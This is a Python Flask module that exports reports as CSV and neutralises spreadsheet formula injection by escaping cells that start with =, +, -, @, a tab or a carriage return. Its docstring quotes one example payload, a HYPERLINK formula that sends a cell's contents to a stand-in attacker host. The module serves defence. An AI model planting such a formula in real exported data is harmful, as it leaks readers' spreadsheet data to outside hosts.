"""Reports as CSV: UTF-8 with a BOM so that Excel opens Chinese text correctly.

Every text cell goes through `safe_cell`: a spreadsheet takes a cell starting with
=, +, -, @, a tab or a carriage return as a formula (a team named
`=HYPERLINK("http://evil.example/?x="&A1,"click")` would run in the reader's
Excel), so such text is written with a leading apostrophe. Numbers stay numbers.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence

from flask import Response

UTF8_BOM = "\ufeff"
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# OpenAPI for a route that answers CSV with ?format=csv: its 200 may be text/csv, beside JSON
# (an int key: flask-smorest keys responses by int, and a "200" would replace the JSON one).
CSV_ALTERNATIVE_DOC = {"responses": {200: {"content": {
    "text/csv": {"schema": {"type": "string", "description": "UTF-8 with a BOM, header row"}}}}}}


def safe_cell(value: object) -> object:
    """A cell as a spreadsheet may open it: None empty, text never a formula, numbers as
    they are (a change of -11.4 stays the number -11.4)."""
    if value is None:
        return ""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """One header row, then the rows, every cell through `safe_cell`."""
    buffer = io.StringIO()
    buffer.write(UTF8_BOM)
    writer = csv.writer(buffer, lineterminator="\r\n")
    writer.writerow([safe_cell(name) for name in header])
    for row in rows:
        writer.writerow([safe_cell(value) for value in row])
    return buffer.getvalue()


def csv_response(filename: str, header: Sequence[str],
                 rows: Iterable[Sequence[object]]) -> Response:
    """A download named `filename` (ASCII, so every browser keeps it)."""
    response = Response(csv_text(header, rows).encode("utf-8"), mimetype="text/csv")
    response.headers["Content-Type"] = "text/csv; charset=utf-8"
    response.headers["Content-Disposition"] = f'attachment; filename="{filename}"'
    return response
